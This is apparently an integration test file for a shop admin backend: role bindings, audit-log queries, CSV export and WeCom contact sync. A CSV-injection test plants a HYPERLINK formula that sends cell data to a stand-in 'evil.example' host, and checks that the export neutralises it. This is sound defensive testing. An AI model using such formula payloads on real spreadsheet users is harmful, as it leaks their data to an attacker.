/**
 * The owner's admin screens over HTTP (角色与权限, 操作日志, 通讯录同步 and the home counters), against
 * the real server + simulator (test/support/stack.ts), on every database of the matrix.
 */
import { randomUUID } from 'node:crypto';
import type {
  AdminSummary,
  AuditEntryView,
  AuditListResponse,
  MembersResponse,
  RoleBindingView,
  RoleMembersResponse,
  RolesResponse,
  SyncStatusResponse,
  TagsResponse,
} from '@shopcrew/shared';
import { AUDIT_EXPORT_MAX_ROWS } from '@shopcrew/shared';
import { DEMO_CORP_DATA, DEMO_DEPARTMENTS as D, DEMO_TAGS as T, DEMO_USERS as U } from '../../scripts/wecom-sim/demo-corp';
import { AuditEntry } from '../../server/src/modules/audit/audit-entry.entity';
import { SyncRun } from '../../server/src/modules/org/sync-run.entity';
import { testDatabases } from '../support/databases';
import { Browser, signIn } from '../support/http-client';
import { startStack, type Stack } from '../support/stack';
import { waitFor } from '../support/wait';

interface ErrorBody {
  error: { code: string; message: string; details?: unknown };
}

const post = (body: unknown): RequestInit => ({ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });

/** RFC 4180: quoted cells may hold commas, doubled quotes and line breaks; rows end with CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length) rows.push([...row, cell]);
  return rows;
}

const HEADER_REST = ['操作人', '操作人账号', '操作', '操作代码', '对象类型', '对象ID', '对象名称', '变更前', '变更后', '请求ID', '记录ID'];

/** Today in Asia/Shanghai as YYYYMMDD (the export's file name). */
const shanghaiDate = () => new Intl.DateTimeFormat('sv-SE', { timeZone: 'Asia/Shanghai' }).format(Date.now()).replace(/-/g, '');

describe.each(testDatabases())('admin screens over HTTP ($label)', ({ kind }) => {
  let stack: Stack;
  let owner: Browser;
  let agent: Browser; // cs_agent: org:read only among the admin permissions
  let finance: Browser; // audit:read, no org:manage_roles, no contacts:sync

  beforeAll(async () => {
    stack = await startStack({ db: kind });
    owner = (await signIn(stack, U.owner)).browser;
    agent = (await signIn(stack, U.csAgent)).browser;
    finance = (await signIn(stack, U.finance)).browser;
  });
  afterAll(() => stack?.close());

  const roles = async () => {
    const res = await owner.json<RolesResponse>('/api/roles');
    expect(res.status).toBe(200);
    return res.body;
  };
  const memberRoles = async (b: Browser = owner) => {
    const res = await b.json<RoleMembersResponse>('/api/roles/members');
    expect(res.status).toBe(200);
    return res.body.members;
  };
  const audit = async (query: string, b: Browser = owner) => {
    const res = await b.json<AuditListResponse>(`/api/audit?${query}`);
    expect(res.status).toBe(200);
    return res.body;
  };
  const me = async (b: Browser) => (await b.json<{ roles: string[] }>('/api/me')).body;
  const bind = (body: unknown, b: Browser = owner) => b.json<RoleBindingView & ErrorBody>('/api/roles/bindings', post(body));
  const unbind = (id: number) => owner.request(`/api/roles/bindings/${id}`, { method: 'DELETE' });
  const syncDone = async () => {
    await waitFor(
      async () => {
        const s = (await owner.json<SyncStatusResponse>('/api/org/sync')).body;
        return !s.running && s.runs[0]?.state === 'done';
      },
      'the contact sync finished',
      20_000,
    );
  };

  describe('binding subjects are validated', () => {
    test.each([
      ['blank', 'user', '  '],
      ['empty', 'user', ''],
      ['a right-to-left override alone', 'user', '\u202e'],
      ['a userid with a right-to-left override', 'user', `${U.csAgent}\u202e`],
      ['a userid with a zero-width space', 'user', `li\u200bna`],
      ['a NUL byte', 'user', `${U.csAgent}\u0000`],
      ['a tab', 'user', `li\tna`],
      ['a bell', 'user', '\u0007'],
      ['a newline', 'user', `${U.csAgent}\n`],
      ['a leading space (nothing is trimmed)', 'user', ` ${U.csAgent}`],
      ['an ideographic space', 'user', `${U.csAgent}\u3000`],
      ['a department id with a trailing space', 'department', `${D.cs} `],
      ['a department id with a leading zero', 'department', `0${D.cs}`],
      ['a department id that is not a number', 'department', 'cs'],
      ['a fractional department id', 'department', 2.5],
      ['a department id beyond 32 bits', 'department', '4294967297'],
      ['a tag id with an RLO', 'tag', `${T.csLeads}\u202e`],
    ])('%s → 422 validation_failed, nothing stored or audited', async (_label, subjectType, subjectId) => {
      const before = await roles();
      const auditBefore = await audit('action=role.bind&limit=200');
      const res = await bind({ role: 'designer', subjectType, subjectId });
      expect(res.status).toBe(422);
      expect(res.body.error.code).toBe('validation_failed');
      expect(res.body.error.message).toMatch(/subjectId|ID/);
      expect(await roles()).toEqual(before);
      expect(await audit('action=role.bind&limit=200')).toEqual(auditBefore);
    });

    test.each([
      ['department', 999999, '部门 999999 不存在于已同步的通讯录中；若刚在企业微信创建，请先同步通讯录'],
      ['department', '999999', '部门 999999 不存在于已同步的通讯录中'],
      ['tag', 999, '标签 999 不存在于已同步的通讯录中'],
      ['user', 'nobody', '成员 nobody 不存在于已同步的通讯录中'],
      // Ids are exact: MySQL's case-insensitive collation must not let 'LINA' through as 'lina'.
      ['user', U.csAgent.toUpperCase(), `成员 ${U.csAgent.toUpperCase()} 不存在于已同步的通讯录中`],
    ])('%s %j, not in the mirror → 422 subject_not_found', async (subjectType, subjectId, message) => {
      const before = await roles();
      const res = await bind({ role: 'designer', subjectType, subjectId });
      expect(res.status).toBe(422);
      expect(res.body.error.code).toBe('subject_not_found');
      expect(res.body.error.message).toContain(message);
      expect(res.body.error.details).toEqual({ subjectType, subjectId: String(subjectId) });
      expect(await roles()).toEqual(before);
    });

    test('an existing department → 201 with its name; its members (and sub-departments) get the role', async () => {
      expect((await me(agent)).roles).toEqual(['cs_agent']);
      const res = await bind({ role: 'designer', subjectType: 'department', subjectId: D.cs });
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({
        role: 'designer',
        subjectType: 'department',
        subjectId: String(D.cs),
        subjectName: '客服部',
        subjectExists: true,
        createdBy: U.owner,
        createdByName: '陈静',
      });
      try {
        // Lina is in 售前组, a sub-department of 客服部.
        expect((await me(agent)).roles).toEqual(['cs_agent', 'designer']);
        const lina = (await memberRoles()).find((m) => m.userid === U.csAgent)!;
        expect(lina.grants.find((g) => g.role === 'designer')!.sources).toEqual([
          { kind: 'binding', bindingId: res.body.id, subjectType: 'department', subjectId: String(D.cs), subjectName: '客服部' },
        ]);
      } finally {
        expect((await unbind(res.body.id)).status).toBe(204);
      }
      expect((await me(agent)).roles).toEqual(['cs_agent']);
    });

    test('an existing tag → 201; members tagged directly and through a department get the role', async () => {
      const res = await bind({ role: 'warehouse', subjectType: 'tag', subjectId: String(T.financeApprovers) });
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({ subjectType: 'tag', subjectId: String(T.financeApprovers), subjectName: '财务审批', subjectExists: true });
      try {
        const members = await memberRoles();
        // 财务审批 = 陈静 directly + everyone in 财务部.
        for (const userid of [U.owner, U.finance, U.financeLead]) expect(members.find((m) => m.userid === userid)!.roles).toContain('warehouse');
        expect(members.find((m) => m.userid === U.csAgent)!.roles).not.toContain('warehouse');
        expect((await me(finance)).roles).toEqual(['warehouse', 'finance']);
      } finally {
        expect((await unbind(res.body.id)).status).toBe(204);
      }
    });

    test('an existing member (also one not yet activated) → 201; that member alone gets the role', async () => {
      for (const userid of [U.designer, U.inactive]) {
        const res = await bind({ role: 'finance', subjectType: 'user', subjectId: userid });
        expect(res.status).toBe(201);
        expect(res.body.subjectName).toBe(DEMO_CORP_DATA.members.find((m) => m.userid === userid)!.name);
        try {
          const members = await memberRoles();
          expect(members.find((m) => m.userid === userid)!.roles).toContain('finance');
          expect(
            members.filter((m) => m.grants.some((g) => g.sources.some((s) => s.kind === 'binding' && s.bindingId === res.body.id))).map((m) => m.userid),
          ).toEqual([userid]);
        } finally {
          expect((await unbind(res.body.id)).status).toBe(204);
        }
      }
    });

    test('a department just created in WeCom: subject_not_found until the contact sync, then 201; deleted later → subjectExists false', async () => {
      // Created in WeCom without a change_contact event reaching us: the mirror does not know it yet.
      const dept = stack.sim.corp.addDepartment({ name: '直播组', parentid: D.ops });
      const refused = await bind({ role: 'marketing', subjectType: 'department', subjectId: dept.id });
      expect(refused.status).toBe(422);
      expect(refused.body.error.code).toBe('subject_not_found');
      expect(refused.body.error.message).toBe(`部门 ${dept.id} 不存在于已同步的通讯录中；若刚在企业微信创建，请先同步通讯录`);

      expect((await owner.request('/api/org/sync', post({}))).status).toBe(202);
      await syncDone();
      const res = await bind({ role: 'marketing', subjectType: 'department', subjectId: dept.id });
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({ subjectName: '直播组', subjectExists: true });

      await stack.sim.deleteParty(dept.id); // change_contact delete_party → the mirror marks it deleted
      const view = await waitFor(async () => (await roles()).bindings.find((b) => b.id === res.body.id && !b.subjectExists), 'binding subject marked deleted');
      expect(view).toMatchObject({ subjectName: '直播组', subjectExists: false }); // the last known name stays
      const summary = (await owner.json<AdminSummary>('/api/admin/summary')).body;
      expect(summary.roles!.orphaned).toBeGreaterThanOrEqual(1);
      // A deleted department can no longer be bound, but the stale binding can be removed.
      expect((await bind({ role: 'finance', subjectType: 'department', subjectId: dept.id })).body.error.code).toBe('subject_not_found');
      expect((await unbind(res.body.id)).status).toBe(204);
    });

    test('a cs_agent (org:read) may look but not bind', async () => {
      const res = await bind({ role: 'owner', subjectType: 'user', subjectId: U.csAgent }, agent);
      expect(res.status).toBe(403);
      expect((await agent.json('/api/roles')).status).toBe(200);
      expect((await agent.json('/api/roles/members')).status).toBe(200);
    });
  });

  describe('who has what', () => {
    test('GET /api/roles: every binding names its subject and its creator', async () => {
      const { roles: defs, bindings } = await roles();
      expect(defs.map((r) => r.key)).toContain('owner');
      const find = (type: string, id: string | number) => bindings.find((b) => b.subjectType === type && b.subjectId === String(id));
      expect(find('department', D.cs)).toMatchObject({
        role: 'cs_agent',
        subjectName: '客服部',
        subjectExists: true,
        createdBy: 'system',
        createdByName: null,
      });
      expect(find('tag', T.csLeads)).toMatchObject({ role: 'cs_lead', subjectName: '客服组长', subjectExists: true });
      expect(find('user', U.opsManager)).toMatchObject({ role: 'ops_manager', subjectName: '周强', subjectExists: true });
      for (const b of bindings) expect(typeof b.createdAt).toBe('number');
    });

    test('GET /api/roles/members: every active member once, with each role and where it comes from', async () => {
      const members = await memberRoles(agent);
      const active = DEMO_CORP_DATA.members.filter((m) => [undefined, 1, 4].includes(m.status));
      expect(members.map((m) => m.userid).sort()).toEqual(active.map((m) => m.userid).sort());

      const chen = members.find((m) => m.userid === U.owner)!;
      expect(chen).toMatchObject({ name: '陈静', position: '店长', departments: [{ id: D.ownerOffice, name: '店长办公室' }] });
      const ownerSources = chen.grants.find((g) => g.role === 'owner')!.sources;
      expect(ownerSources).toEqual(
        expect.arrayContaining([
          { kind: 'admin' },
          expect.objectContaining({ kind: 'binding', subjectType: 'tag', subjectId: String(T.owners), subjectName: '店长' }),
        ]),
      );

      const wang = members.find((m) => m.userid === U.csLead)!;
      expect(wang.roles).toEqual(['cs_lead', 'cs_agent']);
      expect(wang.grants.map((g) => g.role)).toEqual(wang.roles);
      expect(wang.grants[0]!.sources).toEqual([expect.objectContaining({ subjectType: 'tag', subjectName: '客服组长' })]);

      const qian = members.find((m) => m.userid === U.inactive)!;
      expect(qian.wecomStatus).toBe(4);
      expect(qian.roles).toEqual(['cs_agent']);
      expect(members.find((m) => m.userid === U.csAgent)!.wecomStatus).toBe(1);
    });

    test('GET /api/org/members?department=…: members carry their WeCom status (4 = 未激活)', async () => {
      const res = await agent.json<MembersResponse>(`/api/org/members?department=${D.csPresale}`);
      expect(res.status).toBe(200);
      expect(res.body.members.find((m) => m.userid === U.inactive)!.wecomStatus).toBe(4);
      expect(res.body.members.find((m) => m.userid === U.csAgent)!.wecomStatus).toBe(1);
    });

    test('GET /api/org/tags: every tag with how many members and departments carry it', async () => {
      const res = await agent.json<TagsResponse>('/api/org/tags');
      expect(res.status).toBe(200);
      expect(res.body.tags).toEqual(
        expect.arrayContaining([
          { id: T.csLeads, name: '客服组长', userCount: 2, departmentCount: 0 },
          { id: T.owners, name: '店长', userCount: 1, departmentCount: 0 },
          { id: T.financeApprovers, name: '财务审批', userCount: 1, departmentCount: 1 },
        ]),
      );
      expect(res.body.tags).toHaveLength(3);
    });

    test('GET /api/org/members?q=…: search by name, userid or position', async () => {
      const search = async (q: string) => {
        const res = await agent.json<MembersResponse>(`/api/org/members?q=${encodeURIComponent(q)}`);
        expect(res.status).toBe(200);
        expect(res.body.department).toBeNull();
        return res.body.members;
      };
      expect((await search('李娜')).map((m) => m.userid)).toEqual([U.csAgent]);
      expect((await search(U.csAgent))[0]).toMatchObject({
        userid: U.csAgent,
        name: '李娜',
        roles: ['cs_agent'],
        departments: [{ id: D.csPresale, name: '售前组' }],
      });
      const cs = await search('客服专员');
      expect(cs.map((m) => m.userid).sort()).toEqual(
        DEMO_CORP_DATA.members
          .filter((m) => m.position === '客服专员' && m.status !== 5 && m.status !== 2)
          .map((m) => m.userid)
          .sort(),
      );
      expect(cs.find((m) => m.userid === U.inactive)!.wecomStatus).toBe(4);
      // LIKE wildcards are literal.
      expect(await search('%')).toEqual([]);
      expect(await search('_')).toEqual([]);
      expect(await search('nobody-like-this')).toEqual([]);
    });

    test.each([
      ['q too long', `q=${'x'.repeat(65)}`],
      ['q blank', 'q=%20%20'],
      ['both department and q', `department=${D.cs}&q=li`],
      ['neither', ''],
    ])('GET /api/org/members with %s → 422', async (_label, query) => {
      const res = await agent.json<ErrorBody>(`/api/org/members?${query}`);
      expect(res.status).toBe(422);
      expect(res.body.error.code).toBe('validation_failed');
    });
  });

  describe('audit log', () => {
    let ids: number[] = [];

    beforeAll(async () => {
      // A known burst: three binds and three unbinds by the owner, and a sign-in by the warehouse clerk.
      ids = [];
      for (const userid of [U.csAgent2, U.csAgent3, U.csAgent4]) {
        const res = await bind({ role: 'designer', subjectType: 'user', subjectId: userid });
        expect(res.status).toBe(201);
        ids.push(res.body.id);
      }
      for (const id of ids) expect((await unbind(id)).status).toBe(204);
      await signIn(stack, U.warehouse);
    });

    test('entries carry the actor’s name and the target’s name', async () => {
      const { entries } = await audit(`targetType=role_binding&targetId=${ids[0]}`);
      expect(entries.map((e) => e.action)).toEqual(['role.unbind', 'role.bind']);
      for (const e of entries)
        expect(e).toMatchObject({ actor: U.owner, actorName: '陈静', targetType: 'role_binding', targetId: String(ids[0]), targetName: '赵磊' });
      const signin = (await audit(`actor=${U.warehouse}&action=auth.sign_in`)).entries[0]!;
      expect(signin).toMatchObject({ actorName: '刘洋', targetType: 'member', targetId: U.warehouse, targetName: '刘洋' });
      const sync = (await audit('action=contact.sync')).entries[0]!;
      expect(sync).toMatchObject({ actor: 'system', actorName: null, targetType: 'sync_run' });
    });

    test('filters: actor, action, target type and id, time range', async () => {
      const byOwner = (await audit(`actor=${U.owner}&limit=200`)).entries;
      expect(byOwner.length).toBeGreaterThanOrEqual(6);
      expect(byOwner.every((e) => e.actor === U.owner)).toBe(true);

      const binds = (await audit(`action=role.bind&limit=200`)).entries;
      expect(binds.every((e) => e.action === 'role.bind')).toBe(true);
      expect(binds.map((e) => Number(e.targetId))).toEqual(expect.arrayContaining(ids));

      const both = (await audit(`actor=${U.owner}&action=role.unbind&targetType=role_binding&limit=200`)).entries;
      expect(both.every((e) => e.actor === U.owner && e.action === 'role.unbind' && e.targetType === 'role_binding')).toBe(true);
      expect(both.map((e) => Number(e.targetId))).toEqual(expect.arrayContaining(ids));
      expect((await audit(`actor=${U.csAgent}&action=role.bind`)).entries).toEqual([]);

      // from ≤ at < to
      const one = binds.find((e) => e.targetId === String(ids[1]))!;
      const at = (from: number, to: number) => audit(`action=role.bind&from=${from}&to=${to}&limit=200`).then((r) => r.entries.map((e) => e.id));
      expect(await at(one.at, one.at + 1)).toContain(one.id);
      expect(await at(one.at - 1000, one.at)).not.toContain(one.id);
      expect(await at(one.at + 1, one.at + 60_000)).not.toContain(one.id);
      // An empty parameter is no filter.
      expect((await audit('actor=&action=role.bind&limit=200')).entries).toEqual(binds);
    });

    test('cursor paging: pages of 2 add up to the whole list, newest first, ending with nextBefore null', async () => {
      const all = (await audit(`actor=${U.owner}&limit=200`)).entries;
      const paged: AuditEntryView[] = [];
      let before: number | null = null;
      let pages = 0;
      do {
        const page: AuditListResponse = await audit(`actor=${U.owner}&limit=2${before ? `&before=${before}` : ''}`);
        expect(page.entries.length).toBeLessThanOrEqual(2);
        paged.push(...page.entries);
        before = page.nextBefore;
        if (before !== null) expect(before).toBe(page.entries[page.entries.length - 1]!.id);
        pages++;
      } while (before !== null && pages < 100);
      expect(paged.map((e) => e.id)).toEqual(all.map((e) => e.id));
      expect([...paged.map((e) => e.id)].sort((a, b) => b - a)).toEqual(paged.map((e) => e.id));
      // A list that fits in one page has no next page.
      expect((await audit(`targetType=role_binding&targetId=${ids[0]}&limit=2`)).nextBefore).toBeNull();
      expect((await audit(`targetType=role_binding&targetId=${ids[0]}&limit=1`)).nextBefore).not.toBeNull();
    });

    test.each([
      ['from after to', 'from=2000&to=1000'],
      ['a non-numeric from', 'from=yesterday'],
      ['limit 0', 'limit=0'],
      ['limit 201', 'limit=201'],
      ['before 0', 'before=0'],
      ['an overlong actor', `actor=${'a'.repeat(65)}`],
    ])('%s → 422 validation_failed', async (_label, query) => {
      const res = await owner.json<ErrorBody>(`/api/audit?${query}`);
      expect(res.status).toBe(422);
      expect(res.body.error.code).toBe('validation_failed');
    });

    test('a cs_agent may not read or export it (403)', async () => {
      for (const path of ['/api/audit', '/api/audit/export']) {
        const res = await agent.request(path);
        expect(res.status).toBe(403);
        expect(res.headers.get('content-type')).toMatch(/application\/json/);
        expect(((await res.json()) as ErrorBody).error).toMatchObject({ code: 'forbidden', details: { required: 'audit:read' } });
      }
    });
  });

  describe('CSV export', () => {
    const exportCsv = async (query = '', b: Browser = owner) => {
      const res = await b.request(`/api/audit/export${query ? `?${query}` : ''}`);
      expect(res.status).toBe(200);
      const bytes = new Uint8Array(await res.arrayBuffer());
      return { res, bytes, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) };
    };

    test('UTF-8 with BOM, attachment named by date, a header row, one row per entry (same filters as the list)', async () => {
      const { res, bytes, text } = await exportCsv('action=role.bind');
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="audit-${shanghaiDate()}.csv"`);
      expect(res.headers.get('cache-control')).toMatch(/no-store/);
      expect(text.startsWith('\uFEFF')).toBe(true);
      expect(text.endsWith('\r\n')).toBe(true);
      const rows = parseCsv(text.slice(1));
      expect(rows[0]).toEqual(['时间 (Asia/Shanghai)', ...HEADER_REST]);
      const list = (await audit('action=role.bind&limit=200')).entries;
      expect(rows.slice(1).map((r) => r[11])).toEqual(list.map((e) => String(e.id)));
      expect(res.headers.get('x-export-rows')).toBe(String(list.length));
      expect(res.headers.get('x-export-truncated')).toBe('0');
      const first = rows[1]!;
      expect(first.slice(1, 5)).toEqual(['陈静', U.owner, '授权', 'role.bind']);
      expect(first[5]).toBe('授权');
      expect(first[0]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
      expect(JSON.parse(first[9]!)).toMatchObject({ role: expect.any(String), subjectType: expect.any(String) });

      // Times follow ?tz=.
      const utc = parseCsv((await exportCsv('action=role.bind&tz=UTC')).text.slice(1));
      expect(utc[0]![0]).toBe('时间 (UTC)');
      const at = list[0]!.at;
      expect(utc[1]![0]).toBe(new Date(at).toISOString().slice(0, 19).replace('T', ' '));
      expect((await owner.json<ErrorBody>('/api/audit/export?tz=Mars/Olympus')).status).toBe(422);
    });

    test('is itself audited', async () => {
      await exportCsv(`actor=${U.owner}`);
      const entry = (await audit('action=audit.export')).entries[0]!;
      expect(entry).toMatchObject({ actor: U.owner, targetType: 'audit_log', after: { filter: { actor: U.owner }, truncated: false } });
    });

    test('quotes commas, quotes and line breaks; neutralises cells that Excel would run as formulas', async () => {
      // Names come from WeCom: a member named like a formula, a department with quotes and a comma.
      const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
      const plus = '+1-2';
      await stack.sim.createUser({ userid: 'evil.name', name: evil, department: [D.ops], position: '@SUM(A1:A9)' });
      await stack.sim.createParty({ name: '研发,"一部"', parentid: D.root });
      const created = [...stack.sim.corp.subtree()].find((d) => d.name === '研发,"一部"')!;
      await stack.sim.createParty({ name: plus, parentid: D.root });
      const plusDept = [...stack.sim.corp.subtree()].find((d) => d.name === plus)!;
      await waitFor(async () => (await owner.json<MembersResponse>('/api/org/members?q=evil.name')).body.members.length === 1, 'evil.name mirrored');
      await waitFor(async () => (await owner.json<MembersResponse>(`/api/org/members?department=${plusDept.id}`)).status === 200, '+1-2 mirrored');
      await signIn(stack, 'evil.name');
      const quoted = await bind({ role: 'designer', subjectType: 'department', subjectId: created.id });
      const formula = await bind({ role: 'designer', subjectType: 'department', subjectId: plusDept.id });
      expect([quoted.status, formula.status]).toEqual([201, 201]);

      const { text } = await exportCsv();
      // The raw text: formula-like cells start with an apostrophe, inside RFC 4180 quotes where needed.
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"`);
      expect(text).toContain(`,"研发,""一部""",`);
      expect(text).toContain(`,'+1-2,`);

      const rows = parseCsv(text.slice(1));
      expect(rows.every((r) => r.length === 12)).toBe(true);
      const signinRow = rows.find((r) => r[2] === 'evil.name' && r[4] === 'auth.sign_in')!;
      expect(signinRow[1]).toBe(`'${evil}`);
      expect(signinRow[7]).toBe(`'${evil}`); // the target's name too
      expect(rows.find((r) => r[4] === 'role.bind' && r[6] === String(quoted.body.id))![7]).toBe('研发,"一部"');
      expect(rows.find((r) => r[4] === 'role.bind' && r[6] === String(formula.body.id))![7]).toBe(`'${plus}`);
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });

    test(`at most ${AUDIT_EXPORT_MAX_ROWS} rows, newest first; X-Export-Truncated says more matched`, async () => {
      const repo = stack.app.container.ds.getRepository(AuditEntry);
      const now = Date.now();
      const rows = Array.from({ length: AUDIT_EXPORT_MAX_ROWS + 5 }, (_, i) => ({
        at: now + i,
        actor: 'bulk-test',
        action: 'bulk.test',
        targetType: 'bulk',
        targetId: String(i),
        before: null,
        after: null,
        requestId: null,
      }));
      for (let i = 0; i < rows.length; i += 500) await repo.insert(rows.slice(i, i + 500));
      const { res, text } = await exportCsv('action=bulk.test');
      expect(res.headers.get('x-export-truncated')).toBe('1');
      expect(res.headers.get('x-export-rows')).toBe(String(AUDIT_EXPORT_MAX_ROWS));
      const parsed = parseCsv(text.slice(1));
      expect(parsed).toHaveLength(AUDIT_EXPORT_MAX_ROWS + 1);
      expect(parsed[1]![6]).toBe(String(AUDIT_EXPORT_MAX_ROWS + 4)); // newest first
      expect(parsed[parsed.length - 1]![6]).toBe('5');
      // Narrower filters are not truncated.
      expect((await exportCsv(`action=bulk.test&from=${now}&to=${now + 10}`)).res.headers.get('x-export-truncated')).toBe('0');
      await repo.delete({ action: 'bulk.test' });
    });
  });

  describe('contact sync status', () => {
    const status = async (b: Browser = owner) => {
      const res = await b.json<SyncStatusResponse>('/api/org/sync');
      expect(res.status).toBe(200);
      return res.body;
    };

    test('runs with state, trigger, duration and stats', async () => {
      const s = await status();
      expect(s.running).toBe(false);
      const first = s.runs[s.runs.length - 1]!;
      expect(first).toMatchObject({ state: 'done', trigger: 'test', triggeredBy: null, error: null, progress: null });
      expect(first.durationMs).toBe(first.finishedAt! - first.startedAt);
      expect(first.stats).toMatchObject({ departments: DEMO_CORP_DATA.departments.length, tags: 3 });
      expect(s.lastSuccessAt).toBe(s.runs.find((r) => r.state === 'done')!.finishedAt);
      expect(s.runs.map((r) => r.id)).toEqual([...s.runs.map((r) => r.id)].sort((a, b) => b - a));
    });

    test('立即同步: 202, the run is visible at once with who started it, and 409 sync_running while one runs', async () => {
      const leases = stack.app.container.leases;
      const other = randomUUID(); // another server process
      // Another process is syncing: the page says so and a second start is refused.
      expect(await leases.tryAcquire('job:contact-sync', 60_000, other)).toBe(true);
      try {
        expect((await status()).running).toBe(true);
        const busy = await owner.json<ErrorBody>('/api/org/sync', post({}));
        expect(busy.status).toBe(409);
        expect(busy.body.error).toMatchObject({ code: 'sync_running', message: '通讯录同步正在进行中，请等待本次同步完成' });
      } finally {
        await leases.release('job:contact-sync', other);
      }

      const started = await owner.request('/api/org/sync', post({}));
      expect(started.status).toBe(202);
      expect(await started.json()).toEqual({ started: true });
      const newest = (await status()).runs[0]!;
      expect(newest).toMatchObject({ trigger: `api:${U.owner}`, triggeredBy: { userid: U.owner, name: '陈静' } });
      expect(['running', 'done']).toContain(newest.state);
      await syncDone();
      const done = (await status()).runs[0]!;
      expect(done).toMatchObject({ id: newest.id, state: 'done' });
      expect(done.durationMs).toBeGreaterThanOrEqual(0);
    });

    test('a run that stopped midway shows as interrupted; 立即同步 resumes it', async () => {
      const repo = stack.app.container.ds.getRepository(SyncRun);
      // Started before every sync so far: resuming it must not deactivate members it "skips" as done.
      const startedAt = Date.now() - 3600_000;
      const row = await repo.save({
        startedAt,
        finishedAt: null,
        status: 'running',
        trigger: 'nightly',
        progress: { mode: 'user_list', departmentsTotal: 10, doneDepartments: [D.root, D.cs, D.csPresale], cursor: null, membersSeen: 7 },
        stats: null,
        error: 'connect ETIMEDOUT',
      });
      const shown = (await status()).runs[0]!;
      expect(shown).toMatchObject({ id: row.id, state: 'interrupted', durationMs: null, progress: { done: 3, total: 10 }, error: 'connect ETIMEDOUT' });
      expect((await owner.request('/api/org/sync', post({}))).status).toBe(202);
      await syncDone();
      expect((await status()).runs[0]).toMatchObject({ id: row.id, state: 'done', trigger: 'nightly' });
    });

    test('needs contacts:sync', async () => {
      for (const b of [agent, finance]) {
        expect((await b.json('/api/org/sync')).status).toBe(403);
        expect((await b.request('/api/org/sync', post({}))).status).toBe(403);
      }
    });
  });

  describe('home counters (GET /api/admin/summary)', () => {
    test('the owner gets all three; each matches its page', async () => {
      const since = Date.now() - 3600_000;
      const res = await owner.json<AdminSummary>(`/api/admin/summary?since=${since}`);
      expect(res.status).toBe(200);
      const { bindings } = await roles();
      expect(res.body.roles).toEqual({ bindings: bindings.length, orphaned: bindings.filter((b) => !b.subjectExists).length });
      const recent = (await audit(`from=${since}&limit=200`)).entries.filter((e) => e.action !== 'bulk.test');
      expect(res.body.audit!.since).toBe(since);
      expect(res.body.audit!.count).toBeGreaterThanOrEqual(recent.length);
      const sync = await owner.json<SyncStatusResponse>('/api/org/sync');
      expect(res.body.sync).toEqual({ running: false, last: sync.body.runs[0], lastSuccessAt: sync.body.lastSuccessAt });
    });

    test('each part only with its permission', async () => {
      expect((await agent.json<AdminSummary>('/api/admin/summary')).body).toEqual({});
      expect(Object.keys((await finance.json<AdminSummary>('/api/admin/summary')).body)).toEqual(['audit']);
      expect((await fetch(`${stack.baseUrl}/api/admin/summary`)).status).toBe(401);
    });

    test.each(['abc', '-1', String(Date.now() - 5 * 86_400_000)])('since=%s → 422', async (since) => {
      const res = await owner.json<ErrorBody>(`/api/admin/summary?since=${since}`);
      expect(res.status).toBe(422);
      expect(res.body.error.code).toBe('validation_failed');
    });
  });
});
